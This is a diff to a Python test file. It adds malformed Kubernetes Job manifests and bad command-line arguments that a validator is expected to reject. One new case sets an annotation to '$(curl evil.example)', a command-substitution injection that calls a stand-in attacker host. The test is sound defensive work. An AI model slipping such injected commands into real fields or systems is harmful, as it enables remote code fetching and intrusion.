@@ -216,6 +216,16 @@ OTHER_SHAPES: dict[str, tuple[Change, str]] = {
         "does not set spec.template.metadata.annotations"),
     "pods that cannot be deleted": (
         lambda job: job["spec"]["template"]["metadata"].update(finalizers=["evil.example/stay"]), "does not set spec.template.metadata.finalizers"),
+    "an annotation of 200 kB": (
+        lambda job: job["metadata"]["annotations"].update({"fedhelp.io/request-sha256": "0" * 200_000}), "must be a sha256 in hexadecimal"),
+    "an annotation that is no hash": (
+        lambda job: job["metadata"]["annotations"].update({"fedhelp.io/request-sha256": "$(curl evil.example)"}), "must be a sha256 in hexadecimal"),
+    "an annotation beside ours": (
+        lambda job: job["metadata"]["annotations"].update({"evil.example/x": "y"}), "does not allow these annotations: evil.example/x"),
+    "a crowd of owners": (
+        lambda job: job["metadata"].update(ownerReferences=[
+            {"apiVersion": "work.open-cluster-management.io/v1", "kind": "AppliedManifestWork", "name": f"x{n}", "uid": str(n)} for n in range(50)]),
+        "no owner but template"),
     "a Job that cannot be deleted": (
         lambda job: job["metadata"].update(finalizers=["evil.example/stay"]), "no finalizers"),
     "a Job that belongs to something else": (
@@ -250,6 +260,9 @@ OTHER_ARGUMENTS: dict[str, tuple[list[str], str]] = {
     "no endpoint, so that AWS is meant": (GOOD[:-2], PAIRS),
     "a folder as store": (["train", "--run", "r", "--store", "/state/out", "--endpoint-url", ENDPOINT], f"exchanges with store {STORE}"),
     "a path as run": (["train", "--run", "../../other", *GOOD[3:]], "run ids and numbers must be plain"),
+    **{f"{flag} {value}": ([*GOOD, flag, value], "run ids and numbers must be plain") for flag, value in (
+        ("--lease", "1e999"), ("--lease", "1e+05"), ("--lease", "inf"), ("--lease", "nan"), ("--lease", "-1"), ("--lease", "999999"),
+        ("--lease", "600."), ("--round", "0"), ("--round", "1.5"), ("--round", "1e3"), ("--round", "9999999"))},
 }
 
 
